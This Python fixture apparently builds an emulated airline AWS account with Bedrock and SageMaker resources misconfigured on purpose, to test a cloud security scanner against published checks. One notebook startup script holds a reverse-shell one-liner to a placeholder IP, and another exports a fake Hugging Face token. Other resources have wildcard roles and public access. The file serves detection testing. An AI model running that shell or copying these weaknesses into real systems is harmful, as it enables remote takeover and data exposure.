"""An eighth account, of an airline: one resource for each published check that the emulator can express.

What is expected was written by check before the first scan: `CHECKS` says which of our rules stand for it.
"""

# ruff: noqa: E501  the tables read best in rows
# fmt: off
from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from aws_compute import start_script
from aws_world import ACCOUNT, IMAGE, World, allow, document

if TYPE_CHECKING:
    from collections.abc import Callable

HOME = "eu-north-1"
OWN, ROLE = f"arn:aws:iam::{ACCOUNT}", f"arn:aws:iam::{ACCOUNT}:role/fleet-ml"
_NOVA = "amazon.nova-pro-v1:0"
ASK = allow("bedrock:InvokeModel", f"arn:aws:bedrock:{HOME}::foundation-model/{_NOVA}")
_NETWORK, _KEY, _ALONE = ("ai-workload-outside-own-network",), ("ai-data-without-own-key", "ai-data-unencrypted"), ("model-without-network-isolation",)
_BROAD = ("iam-wildcard-for-ai-role", "user-with-administrator-rights", "ai-role-can-raise-its-rights")
_PUBLIC = ("bucket-with-ai-data-public", "store-writable-by-anyone", "store-open-to-the-public", "ai-bucket-without-public-block")
_CLEAR, _NOBODY = ("training-traffic-unencrypted",), ("ai-endpoint-without-authentication", "function-open-to-others", "mcp-server-without-authentication")
_DOOR = ("search-domain-asks-nobody", "database-open-to-internet", "ai-service-open-to-all-networks", "vector-store-without-authentication")
# Published check (Security Hub's number, Prowler's or Checkov's id, Defender's words) -> the rules that stand for it.
CHECKS: dict[str, tuple[str, ...]] = {
    "BedrockAgentCore.1": _NETWORK, "BedrockAgentCore.2": _NOBODY, "BedrockAgentCore.3": _KEY, "BedrockAgentCore.4": _KEY,
    "SageMaker.1": ("notebook-instance-direct-internet",), "SageMaker.2": _NETWORK, "SageMaker.3": ("notebook-instance-root-access",), "SageMaker.4": ("endpoint-on-one-machine",), "SageMaker.5": _ALONE,
    **dict.fromkeys(("SageMaker.9", "SageMaker.10", "SageMaker.13", "SageMaker.15"), _CLEAR), **dict.fromkeys(("SageMaker.11", "SageMaker.12", "SageMaker.20", "SageMaker.25"), _ALONE),
    "SageMaker.16": ("model-image-past-own-registry",), "SageMaker.19": ("model-image-past-own-registry",), "SageMaker.17": _KEY, "SageMaker.18": _KEY, "SageMaker.21": _KEY, "CKV_AWS_367": _KEY, "CKV_AWS_368": _KEY, "CKV_AWS_373": _KEY, "CKV_AWS_98": _KEY, "CKV_AWS_187": _KEY,
    "CKV2_AWS_68": _BROAD, "bedrock_agent_role_least_privilege": _BROAD, "bedrock_agent_role_not_shared_across_agents": ("agents-share-a-role",), "bedrock_full_access_policy_attached": _BROAD,
    "phantom user of a Bedrock key has an access key": ("bedrock-key-user-with-access-key",), "bedrock_model_invocation_logging_enabled": ("model-invocation-logging-off",), "bedrock_vpc_endpoints_configured": _NETWORK, "cloudtrail_bedrock_logging_enabled": ("ai-activity-not-audited",),
    "sagemaker_domain_sso_configured": ("studio-without-single-sign-on",), "sagemaker_models_registry_in_use": ("registry-without-approved-version",), "sagemaker_models_vpc_settings_configured": _NETWORK, "sagemaker_notebook_instance_no_secrets": ("secret-in-startup-script",),
    "sagemaker_training_jobs_intercontainer_encryption_enabled": _CLEAR, "sagemaker_training_jobs_network_isolation_enabled": _ALONE, "sagemaker_training_jobs_volume_and_output_encryption_enabled": _KEY, "sagemaker_training_jobs_vpc_settings_configured": _NETWORK,
    "lifecycle script with a reverse shell": ("startup-script-attacks",), "vector collection open to the public": _DOOR,
    **dict.fromkeys(("s3_bucket_public_access", "s3_bucket_policy_public_write_access", "s3_bucket_public_list_acl", "s3_bucket_level_public_access_block"), _PUBLIC), "s3_bucket_cross_account_access": ("ai-data-shared-with-another-account",),
    "iam_inline_policy_no_administrative_privileges": _BROAD, "iam_policy_allows_privilege_escalation": ("ai-role-can-raise-its-rights", "ai-role-can-become-administrator", "ai-role-passes-any-role", *_BROAD), "iam_user_mfa_enabled_console_access": ("ai-user-without-second-factor",),
    "iam_role_cross_account": ("ai-role-trusts-another-account", "ai-role-assumable-by-anyone"), "iam_inline_policy_no_wildcard_marketplace": ("ai-role-subscribes-to-any-model", *_BROAD), "role reads every secret": ("ai-role-reads-every-secret", *_BROAD),
    "awslambda_function_not_publicly_accessible": _NOBODY, "awslambda_function_url_public": _NOBODY, "awslambda_function_url_cors_policy": ("ai-endpoint-cors-any",), "awslambda_function_no_secrets_in_variables": ("secret-in-function-settings",), "awslambda_function_using_supported_runtimes": ("function-runtime-retired",),
    "opensearch_service_domains_not_publicly_accessible": _DOOR, "opensearch_service_domains_encryption_at_rest_enabled": _KEY, "opensearch_service_domains_node_to_node_encryption_enabled": ("search-traffic-unencrypted",), "opensearch_service_domains_https_communications_enforced": ("search-traffic-unencrypted",),
    "opensearch_service_domains_updated_to_the_latest_service_software_version": ("search-engine-retired",), "ssm parameter without encryption": ("provider-key-in-plain-parameter",),
}  # fmt: skip


def fails(w: World, name: str, check: str) -> bool:
    """Whether a check is to fail on this; writes down that some rule must say so."""
    return w.weak(name, *CHECKS[check])


def bedrock(w: World) -> None:
    """Agents, their roles, keys of the API, logs, knowledge."""
    agents, iam = w.client("bedrock-agent"), w.client("iam")
    said = "You help passengers of an airline with their bookings, in short and friendly answers."

    def agent(name: str, role: str, **more: Any) -> None:
        agents.create_agent(agentName=name, agentResourceRoleArn=role, foundationModel=_NOVA, instruction=said, **{"customerEncryptionKeyArn": w.key, **more})

    bad = fails(w, "seat-agent", "CKV_AWS_373")
    agents.create_agent(agentName="seat-agent", agentResourceRoleArn=w.role("seat-agent-exec", "bedrock", ASK), foundationModel=_NOVA, instruction=said, **({} if bad else {"customerEncryptionKeyArn": w.key}))
    bad = fails(w, "baggage-agent-exec", "bedrock_agent_role_least_privilege")
    agent("baggage-agent", w.role("baggage-agent-exec", "bedrock", ASK, allow(["bedrock:*", "s3:*"], "*") if bad else allow("s3:GetObject", "arn:aws:s3:::aero-manuals/*")))
    bad = fails(w, "desk-exec", "bedrock_agent_role_not_shared_across_agents")
    shared = w.role("desk-exec", "bedrock", ASK)
    agent("refund-desk", shared)
    agent("lounge-desk", shared if bad else w.role("lounge-exec", "bedrock", ASK))
    bad = fails(w, "meal-planner-exec", "bedrock_full_access_policy_attached")
    role = w.role("meal-planner-exec", "lambda", ASK)
    if bad:
        iam.attach_role_policy(RoleName="meal-planner-exec", PolicyArn="arn:aws:iam::aws:policy/AmazonBedrockFullAccess")
    w.function("meal-planner", role, Environment={"Variables": {"BEDROCK_MODEL_ID": _NOVA}})
    bad = fails(w, "BedrockAPIKey-p8sn", "phantom user of a Bedrock key has an access key")
    iam.create_user(UserName="BedrockAPIKey-p8sn")
    iam.put_user_policy(UserName="BedrockAPIKey-p8sn", PolicyName="own", PolicyDocument=document(ASK))
    if bad:
        iam.create_access_key(UserName="BedrockAPIKey-p8sn")
    place = f"Amazon Bedrock in {HOME}"
    if not fails(w, place, "bedrock_model_invocation_logging_enabled"):
        w.bucket("aero-bedrock-log")
        w.client("bedrock").put_model_invocation_logging_configuration(loggingConfig={"s3Config": {"bucketName": "aero-bedrock-log"}, "textDataDeliveryEnabled": True})
    fails(w, place, "bedrock_vpc_endpoints_configured")
    trail = w.client("cloudtrail")
    w.bucket("aero-trail")
    trail.create_trail(Name="aero", S3BucketName="aero-trail", IsMultiRegionTrail=True, KmsKeyId=w.key)
    if not fails(w, place, "cloudtrail_bedrock_logging_enabled"):
        trail.start_logging(Name="aero")
    open_to_all = fails(w, "kbmanuals", "vector collection open to the public")
    serverless = w.client("opensearchserverless")
    serverless.create_security_policy(name="aero-enc", type="encryption", policy=json.dumps({"Rules": [{"ResourceType": "collection", "Resource": ["collection/kbmanuals"]}], "AWSOwnedKey": False, "KmsARN": w.key}))
    inside = {} if open_to_all else {"SourceVPCEs": ["vpce-0abc12345678900aa"]}
    serverless.create_collection(name="kbmanuals", type="VECTORSEARCH")
    serverless.create_security_policy(name="aero-net", type="network", policy=json.dumps([{"Rules": [{"ResourceType": "collection", "Resource": ["collection/kbmanuals"]}], "AllowFromPublic": open_to_all, **inside}]))


def cores(w: World) -> None:
    """AgentCore."""
    core = w.client("bedrock-agentcore-control")
    role = w.role("core-fleet", "bedrock-agentcore", ASK)
    inside = {"networkMode": "VPC", "networkModeConfig": {"securityGroups": [w.group], "subnets": [w.subnets[1]]}}
    bad = fails(w, "rebooker", "BedrockAgentCore.1")
    core.create_agent_runtime(agentRuntimeName="rebooker", roleArn=role, agentRuntimeArtifact={"containerConfiguration": {"containerUri": IMAGE}}, networkConfiguration={"networkMode": "PUBLIC"} if bad else inside)
    jwt = {"customJWTAuthorizer": {"discoveryUrl": "https://id.aero.example/.well-known/openid-configuration", "allowedAudience": ["tools"], "allowedClients": ["web"]}}
    for name, check, instead in (("crew-tools", "BedrockAgentCore.2", {"authorizerType": "NONE", "authorizerConfiguration": None}), ("gate-tools", "BedrockAgentCore.4", {"kmsKeyArn": None})):
        fails(w, name, check)
        told = {"authorizerType": "CUSTOM_JWT", "authorizerConfiguration": jwt, "kmsKeyArn": w.key, **({} if w.kept else instead)}
        core.create_gateway(name=name, roleArn=role, protocolType="MCP", **{word: value for word, value in told.items() if value is not None})
    bad = fails(w, "traveller", "BedrockAgentCore.3")
    core.create_memory(name="traveller", eventExpiryDuration=30, **({} if bad else {"encryptionKeyArn": w.key}))


def notebooks(w: World) -> None:
    """Notebook instances and Studio."""
    sm = w.client("sagemaker")
    w.role("fleet-ml", "sagemaker", allow("s3:GetObject", "arn:aws:s3:::aero-weights/*"))
    w.bucket("aero-weights")
    key = {"KmsKeyId": w.key}
    whole: dict[str, Any] = {"InstanceType": "ml.t3.large", "RoleArn": ROLE, "DirectInternetAccess": "Disabled", "RootAccess": "Disabled", "SubnetId": w.subnets[0], "SecurityGroupIds": [w.group], "PlatformIdentifier": "notebook-al2023-v1", **key}
    scripts = {
        "nb-setup": "export HF_TOKEN=hf_" + "kQwErTyUiOpAsDfGhJkLzXcVbNmQwErTyU" + "\npip install transformers",
        "nb-shell": "bash -c 'sh -i >& /dev/tcp/203.0.113.77/9001 0>&1' &",
    }
    wide = w.role("nb-wide", "sagemaker", allow("*", "*") if not w.kept else allow("s3:GetObject", "arn:aws:s3:::aero-weights/*"))
    for name, label, check, changed in (
        ("nb-internet", "", "SageMaker.1", {"DirectInternetAccess": "Enabled"}), ("nb-root", "", "SageMaker.3", {"RootAccess": "Enabled"}), ("nb-plain", "", "SageMaker.21", {"KmsKeyId": None}),
        ("nb-outside", "", "SageMaker.2", {"SubnetId": None, "SecurityGroupIds": None, "DirectInternetAccess": "Enabled"}), ("nb-role", "nb-wide", "CKV2_AWS_68", {"RoleArn": wide}),
        ("nb-setup", "", "sagemaker_notebook_instance_no_secrets", {}), ("nb-shell", "", "lifecycle script with a reverse shell", {}),
    ):
        fails(w, label or name, check)
        if name in scripts:
            sm.create_notebook_instance_lifecycle_config(NotebookInstanceLifecycleConfigName=name, OnCreate=[{"Content": start_script("#!/bin/sh\n" + ("pip install transformers" if w.kept else scripts[name]))}])
        told = {**whole, **({"LifecycleConfigName": name} if name in scripts else {}), **({"RoleArn": wide} if label else {}), **({} if w.kept else changed)}
        sm.create_notebook_instance(NotebookInstanceName=name, **{word: value for word, value in told.items() if value is not None})
    for name, check, mode, sealed in (("ops-studio", "sagemaker_domain_sso_configured", "IAM", True), ("lab-studio", "CKV_AWS_187", "SSO", False)):
        bad = fails(w, name, check)
        sm.create_domain(DomainName=name, AuthMode=mode if bad else "SSO", AppNetworkAccessType="VpcOnly", VpcId=w.vpc, SubnetIds=[w.subnets[0]], DefaultUserSettings={"ExecutionRole": ROLE, "SecurityGroups": [w.group]}, **({} if bad and not sealed else key))


def models(w: World) -> None:
    """Models, endpoints, packages, features."""
    sm, key = w.client("sagemaker"), {"KmsKeyId": w.key}
    hub = {"Image": "registry.aero.example/serve:1.2", "ImageConfig": {"RepositoryAccessMode": "Platform"}}
    for name, check, changed in (
        ("m-joined", "SageMaker.5", {"EnableNetworkIsolation": False}), ("m-alone", "sagemaker_models_vpc_settings_configured", {"VpcConfig": None}), ("m-public", "SageMaker.16", {"PrimaryContainer": hub}),
        ("m-pair", "SageMaker.19", {"PrimaryContainer": None, "Containers": [{"Image": IMAGE, "ContainerHostname": "a"}, {**hub, "ContainerHostname": "b"}]}),
    ):
        fails(w, name, check)
        told: dict[str, Any] = {"PrimaryContainer": {"Image": IMAGE}, "EnableNetworkIsolation": True, "VpcConfig": w.inside, **({} if w.kept else changed)}
        sm.create_model(ModelName=name, ExecutionRoleArn=ROLE, **{word: value for word, value in told.items() if value is not None})
    for name, check in (("fares-one", "SageMaker.4"), ("fares-plain", "CKV_AWS_98")):
        bad = fails(w, name, check)
        variant = {"VariantName": "a", "ModelName": "m-joined", "InitialInstanceCount": 1 if bad and check == "SageMaker.4" else 2, "InstanceType": "ml.m5.large", "InitialVariantWeight": 1}
        sm.create_endpoint_config(EndpointConfigName=name, ProductionVariants=[variant], **({} if bad and check == "CKV_AWS_98" else key))
    bad = fails(w, "delays", "sagemaker_models_registry_in_use")
    sm.create_model_package_group(ModelPackageGroupName="delays", ModelPackageGroupDescription="delays")
    sm.create_model_package(ModelPackageGroupName="delays", ModelPackageDescription="one", ModelApprovalStatus="PendingManualApproval" if bad else "Approved", InferenceSpecification={"Containers": [{"Image": IMAGE, "ModelDataUrl": "s3://aero-weights/m.tar.gz"}], "SupportedContentTypes": ["text/csv"], "SupportedResponseMIMETypes": ["text/csv"]})
    plain = {"FeatureDefinitions": [{"FeatureName": "id", "FeatureType": "String"}, {"FeatureName": "t", "FeatureType": "String"}], "RecordIdentifierFeatureName": "id", "EventTimeFeatureName": "t", "RoleArn": ROLE}
    bad = fails(w, "flights-offline", "SageMaker.17")
    sm.create_feature_group(FeatureGroupName="flights-offline", OfflineStoreConfig={"S3StorageConfig": {"S3Uri": "s3://aero-weights/f", **({} if bad else key)}}, **plain)
    bad = fails(w, "flights-online", "SageMaker.18")
    sm.create_feature_group(FeatureGroupName="flights-online", OfflineStoreConfig={"S3StorageConfig": {"S3Uri": "s3://aero-weights/g", **key}}, OnlineStoreConfig={"EnableOnlineStore": True, **({} if bad else {"SecurityConfig": key})}, **plain)


def jobs(w: World) -> None:
    """Training, and what watches models."""
    sm, key = w.client("sagemaker"), {"KmsKeyId": w.key}
    cluster = {"InstanceType": "ml.m5.xlarge", "InstanceCount": 2, "VolumeSizeInGB": 20, "VolumeKmsKeyId": w.key}
    for name, check, instead in (
        ("t-clear", "sagemaker_training_jobs_intercontainer_encryption_enabled", {"EnableInterContainerTrafficEncryption": False}), ("t-joined", "sagemaker_training_jobs_network_isolation_enabled", {"EnableNetworkIsolation": False}),
        ("t-plain", "sagemaker_training_jobs_volume_and_output_encryption_enabled", {"ResourceConfig": {**cluster, "VolumeKmsKeyId": None}}), ("t-outside", "sagemaker_training_jobs_vpc_settings_configured", {"VpcConfig": None}),
    ):
        fails(w, name, check)
        told: dict[str, Any] = {"AlgorithmSpecification": {"TrainingImage": IMAGE, "TrainingInputMode": "File"}, "OutputDataConfig": {"S3OutputPath": "s3://aero-weights/o", **key}, "ResourceConfig": cluster, "VpcConfig": w.inside, "EnableNetworkIsolation": True,
                                "EnableInterContainerTrafficEncryption": True, "StoppingCondition": {"MaxRuntimeInSeconds": 60}, "InputDataConfig": [{"ChannelName": "train", "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://aero-weights/in"}}}], **({} if w.kept else instead)}
        told = {word: value for word, value in told.items() if value is not None}
        told["ResourceConfig"] = {word: value for word, value in told["ResourceConfig"].items() if value is not None}
        sm.create_training_job(TrainingJobName=name, RoleArn=ROLE, **told)
    for noun, name, check, missing in (
        ("data_quality", "dq-clear", "SageMaker.9", "traffic"), ("model_explainability", "why-clear", "SageMaker.10", "traffic"), ("data_quality", "dq-joined", "SageMaker.11", "alone"), ("model_bias", "bias-joined", "SageMaker.12", "alone"),
        ("model_quality", "mq-clear", "SageMaker.13", "traffic"), ("model_bias", "bias-clear", "SageMaker.15", "traffic"), ("model_explainability", "why-joined", "SageMaker.20", "alone"), ("model_quality", "mq-joined", "SageMaker.25", "alone"),
        ("data_quality", "dq-output", "CKV_AWS_367", "output"), ("data_quality", "dq-volume", "CKV_AWS_368", "volume"),
    ):
        lost = missing if fails(w, name, check) else ""
        camel = "".join(part.capitalize() for part in noun.split("_"))
        truth = {"GroundTruthS3Input": {"S3Uri": "s3://aero-weights/g"}} if noun in {"model_bias", "model_quality"} else {}
        told = {
            f"{camel}AppSpecification": {"ImageUri": IMAGE, **({"ConfigUri": "s3://aero-weights/c"} if noun in {"model_bias", "model_explainability"} else {})},
            f"{camel}JobInput": {"EndpointInput": {"EndpointName": "e", "LocalPath": "/opt/ml"}, **truth},
            f"{camel}JobOutputConfig": {"MonitoringOutputs": [{"S3Output": {"S3Uri": "s3://aero-weights/o", "LocalPath": "/opt/o"}}], **({} if lost == "output" else key)},
            "JobResources": {"ClusterConfig": {**cluster, **({"VolumeKmsKeyId": ""} if lost == "volume" else {})}},
            "NetworkConfig": {"EnableInterContainerTrafficEncryption": lost != "traffic", "EnableNetworkIsolation": lost != "alone", "VpcConfig": w.inside},
        }
        if lost == "volume":
            told["JobResources"]["ClusterConfig"].pop("VolumeKmsKeyId")
        getattr(sm, f"create_{noun}_job_definition")(JobDefinitionName=name, RoleArn=ROLE, **told)


PARTS: tuple[Callable[[World], None], ...] = (bedrock, cores, notebooks, models, jobs)
